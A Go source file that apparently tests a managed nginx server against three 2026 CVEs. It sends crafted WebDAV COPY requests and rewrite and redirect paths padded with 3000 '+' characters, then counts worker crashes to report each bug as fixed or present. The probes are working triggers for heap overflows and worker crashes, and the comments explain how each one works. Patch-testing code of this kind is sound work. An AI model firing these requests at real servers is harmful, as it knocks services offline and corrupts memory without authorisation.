package nginx

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// CVEs are those that a [Server] can be probed for.
var CVEs = []string{"CVE-2026-27654", "CVE-2026-42945", "CVE-2026-9256"}

// Finding is what a probe found.
type Finding struct {
	Fixed  bool
	Detail string // how the bug showed
}

func (f Finding) String() string {
	if f.Fixed {
		return "FIXED"
	}
	return strings.TrimSpace("BUG " + f.Detail)
}

// probes are the attacks.
var probes = map[string]func(*Server, context.Context) (Finding, error){
	"CVE-2026-27654": (*Server).probeCopy,
	"CVE-2026-42945": (*Server).probeRewrite,
	"CVE-2026-9256":  (*Server).probeCaptures,
}

// Probe attacks the server by one of [CVEs]. The attack kills a worker that is
// not patched, or leaves its heap damaged: start a new server before anything
// is counted.
func (s *Server) Probe(ctx context.Context, cve string) (Finding, error) {
	probe, ok := probes[cve]
	if !ok {
		return Finding{}, fmt.Errorf("no probe for %q: want one of %s", cve, strings.Join(CVEs, ", "))
	}
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	f, err := probe(s, ctx)
	if err != nil {
		return Finding{}, fmt.Errorf("probe for %s: %w", cve, err)
	}
	return f, nil
}

// probeCopy asks the WebDAV module to copy a file to where the location's
// alias does not reach. The length of what remains of the path wraps around;
// with the fix the request is a bad one.
func (s *Server) probeCopy(ctx context.Context) (Finding, error) {
	before, err := s.Crashes()
	if err != nil {
		return Finding{}, err
	}
	status, _, err := s.do(ctx, "COPY", "/longprefix/x", "Destination: /y\r\n")
	if err != nil {
		return s.crashed(ctx, before, err)
	}
	return Finding{status == http.StatusBadRequest, fmt.Sprintf("status %d", status)}, nil
}

// probeRewrite looks whether a rewrite with arguments leaves its mark on the
// script engine: captures are then escaped although their size was not
// computed so, which writes past the end of a buffer.
func (s *Server) probeRewrite(ctx context.Context) (Finding, error) {
	before, err := s.Crashes()
	if err != nil {
		return Finding{}, err
	}
	status, body, err := s.do(ctx, "GET", "/rewrite/a%20b%20c", "")
	if err != nil {
		return s.crashed(ctx, before, err)
	}
	if status != http.StatusOK {
		return Finding{}, fmt.Errorf("status %d, want 200", status)
	}
	return Finding{body == "/rewrite/a b c", body}, nil
}

// probeCaptures uses two captures of one text in a redirect: the place for
// their escaped characters is reserved once, and the second one is written past
// the end of the heap buffer. The allocator notices, and the worker dies.
func (s *Server) probeCaptures(ctx context.Context) (Finding, error) {
	before, err := s.Crashes()
	if err != nil {
		return Finding{}, err
	}
	for range 3 {
		if _, _, err := s.do(ctx, "GET", "/captures/"+strings.Repeat("+", 3000), ""); err != nil {
			return s.crashed(ctx, before, err)
		}
	}
	died, err := s.awaitCrash(ctx, before, 500*time.Millisecond)
	return Finding{Fixed: !died, Detail: "a worker died"}, err
}

// crashed explains a request that failed: the bug, if a worker died of it
// since before were counted, else an error.
func (s *Server) crashed(ctx context.Context, before int, cause error) (Finding, error) {
	died, err := s.awaitCrash(ctx, before, 2*time.Second)
	if err == nil && !died {
		err = cause
	}
	return Finding{Detail: "a worker died"}, err
}

// awaitCrash waits until more workers than before have died, for as long as it
// takes the master to notice, and for those that take their places.
func (s *Server) awaitCrash(ctx context.Context, before int, patience time.Duration) (bool, error) {
	for deadline := time.Now().Add(patience); ; {
		n, err := s.Crashes()
		switch {
		case err != nil:
			return false, err
		case n > before:
			return true, s.ready(ctx) // with a new worker
		case time.Now().After(deadline):
			return false, nil
		}
		select {
		case <-ctx.Done():
			return false, ctx.Err()
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// do sends one request over a connection of its own. The header line comes
// last: what lies behind it in the server's memory matters to an overflow.
func (s *Server) do(ctx context.Context, method, path, header string) (status int, body string, err error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", s.addr)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	if deadline, ok := ctx.Deadline(); ok {
		if err := c.SetDeadline(deadline); err != nil {
			return 0, "", err
		}
	}
	_, err = fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n", method, path, s.addr, header)
	if err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(data), err
}
